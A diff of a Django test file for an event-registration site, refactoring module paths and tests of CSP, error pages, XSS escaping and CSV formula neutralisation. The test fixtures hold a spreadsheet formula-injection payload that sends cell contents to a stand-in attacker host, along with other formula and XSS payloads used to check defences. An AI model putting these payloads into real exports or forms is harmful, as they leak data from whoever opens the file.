@@ -23,8 +23,8 @@ from openpyxl import load_workbook
 from PIL import Image as PILImage
 from wagtail.images.models import Image
 
+from series.http.security import csp_hash
 from series.models import Registration, RegistrationQuestion
-from series.security import csp_hash
 
 from ..factories import SessionSpeakerFactory, SoTalkSessionPageFactory, SpeakerFactory
 from ..fake_esp import FakePostmark
@@ -99,13 +99,13 @@ def test_a_cached_page_keeps_the_policy_that_matches_its_body(
 ):
     """The contract with the page cache: it sits above the CSP middleware and
     stores the headers with the body, so a hit carries the same hashes."""
-    cache_middleware = "series.cache.PageCacheMiddleware"
-    csp_middleware = "series.security.ContentSecurityPolicyMiddleware"
+    cache_middleware = "series.http.page_cache.PageCacheMiddleware"
+    csp_middleware = "series.http.security.ContentSecurityPolicyMiddleware"
     middleware = list(settings.MIDDLEWARE)
     if cache_middleware in middleware:
         assert middleware.index(cache_middleware) < middleware.index(csp_middleware)
     else:
-        pytest.importorskip("series.cache")
+        pytest.importorskip("series.http.page_cache")
         middleware.insert(middleware.index(csp_middleware), cache_middleware)
         settings.MIDDLEWARE = middleware
     settings.SERIES_PAGE_CACHE_SECONDS = 30
@@ -207,7 +207,9 @@ def test_production_cookies_hsts_and_csp():
     ):
         assert values[name] is True, name
     assert values["SECURE_REFERRER_POLICY"] == "strict-origin-when-cross-origin"
-    assert "series.security.ContentSecurityPolicyMiddleware" in values["MIDDLEWARE"]
+    assert (
+        "series.http.security.ContentSecurityPolicyMiddleware" in values["MIDDLEWARE"]
+    )
     csp = values["CONTENT_SECURITY_POLICY"]["DIRECTIVES"]
     assert csp["upgrade-insecure-requests"] is True
     assert values["DATA_UPLOAD_MAX_MEMORY_SIZE"] <= 5 * 1024 * 1024
@@ -251,12 +253,13 @@ def test_successful_sign_ins_do_not_count(client, settings):
 
 
 def test_database_away_is_a_friendly_503_page_and_problem_json(session, monkeypatch):
-    from series import services
+    from series.domain import registration
 
-    def database_gone(**kwargs):
+    def database_gone(*args, **kwargs):
         raise OperationalError("server closed the connection unexpectedly")
 
-    monkeypatch.setattr(services, "registration_create", database_gone)
+    # Both the page's form and the API register through this step.
+    monkeypatch.setattr(registration, "session_lock", database_gone)
     client = Client(raise_request_exception=False)
     page = client.post(
         f"/nb/registrations/sessions/{session.pk}/",
@@ -283,12 +286,12 @@ def test_database_away_is_a_friendly_503_page_and_problem_json(session, monkeypa
 
 
 def test_other_errors_are_a_plain_500_without_traceback(session, monkeypatch):
-    from series import services
+    from series.domain import registration
 
-    def broken(**kwargs):
+    def broken(*args, **kwargs):
         raise RuntimeError("secret internals")
 
-    monkeypatch.setattr(services, "registration_create", broken)
+    monkeypatch.setattr(registration, "session_lock", broken)
     client = Client(raise_request_exception=False)
     page = client.post(
         f"/nb/registrations/sessions/{session.pk}/",
@@ -326,9 +329,8 @@ def assert_inert(html: str, where: str) -> None:
 def test_registrant_payloads_are_inert_on_the_site(client, session):
     registration = register_payloads(client, session)
     assert registration.name == XSS  # stored as typed, escaped when shown
-    from series.emails import registration_token
 
-    token = registration_token(registration)
+    token = registration.token
     for url in (f"/nb/registrations/{token}/", f"/nb/registrations/{token}/cancel/"):
         assert_inert(client.get(url).content.decode(), url)
     detail = client.get(f"/nb/registrations/{token}/").content.decode()
@@ -355,24 +357,28 @@ def test_registrant_payloads_are_inert_in_the_admin(client, staff, session):
 
 
 def test_exports_neutralise_formulas_and_keep_payloads_as_text(staff, session):
-    from series import services
+    from series.domain.registration import Registrant, registration_create
 
-    services.registration_create(
+    registration_create(
         session=session,
-        name='=HYPERLINK("http://evil.example/?"&A1,"click")',
-        email="formula@example.no",
-        organisation="+1+1",
-        answers={"diet": "@SUM(1+1)"},
-        language="nb",
-        consent_version="nb-test",
+        registrant=Registrant(
+            name='=HYPERLINK("http://evil.example/?"&A1,"click")',
+            email="formula@example.no",
+            organisation="+1+1",
+            answers={"diet": "@SUM(1+1)"},
+            language="nb",
+            consent_version="nb-test",
+        ),
     )
-    services.registration_create(
+    registration_create(
         session=session,
-        name="-2+3",
-        email="minus@example.no",
-        organisation=XSS,
-        language="nb",
-        consent_version="nb-test",
+        registrant=Registrant(
+            name="-2+3",
+            email="minus@example.no",
+            organisation=XSS,
+            language="nb",
+            consent_version="nb-test",
+        ),
     )
     export = staff.get("/admin/registrations/?export=csv")
     csv_text = b"".join(export.streaming_content).decode("utf-8-sig")
